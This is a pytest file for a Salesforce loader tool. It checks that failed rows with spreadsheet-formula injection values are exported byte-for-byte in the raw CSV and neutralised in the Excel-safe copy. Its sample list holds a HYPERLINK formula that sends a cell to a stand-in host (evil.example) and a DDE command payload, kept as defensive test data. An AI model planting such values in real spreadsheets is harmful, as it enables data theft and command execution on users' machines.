"""Case 18: failed rows holding =HYPERLINK(...), +1, -2, @SUM, TAB/CR/LF, ";= : the Excel copy is
neutralised (OWASP), the resubmit CSV is Salesforce's bytes."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from sfloader_gui.core.load.results import run_file
from sfloader_gui.core.review.export import export_excel_safe, export_raw
from sfloader_gui.core.review.session import ReviewSession
from tests.core.load.loadkit import load
from tests.faults.kit import nothing_lost

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)",
             "\tTAB", "\nLF", '";=cmd|" /C calc"!A0']  # fmt: skip


def test_failed_formula_rows_round_trip(emulator: Any, tmp_path: Path) -> None:
    src = tmp_path / "formulas.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["External_Id__c", "Name", "NumberOfEmployees"])
        for i, value in enumerate(DANGEROUS):
            w.writerow([f"F{i}", value, "not a number"])  # the org fails every row
    result = load(emulator, [src], tmp_path / "out")
    (job,) = result.manifest["jobs"]
    assert job["records_failed"] == len(DANGEROUS)
    nothing_lost(result.run_dir, emulator, records=len(DANGEROUS))
    session = ReviewSession(result.run_dir)
    raw = tmp_path / "raw.csv"
    export_raw(session, range(session.row_count), raw)
    assert raw.read_bytes() == run_file(result.run_dir, job["failed_file"]).read_bytes()
    excel = tmp_path / "excel.csv"
    export_excel_safe(session, range(session.row_count), excel)
    cells = [c for r in csv.reader(io.StringIO(excel.read_text("utf-8-sig"), newline="")) for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert "'" + DANGEROUS[0] in cells
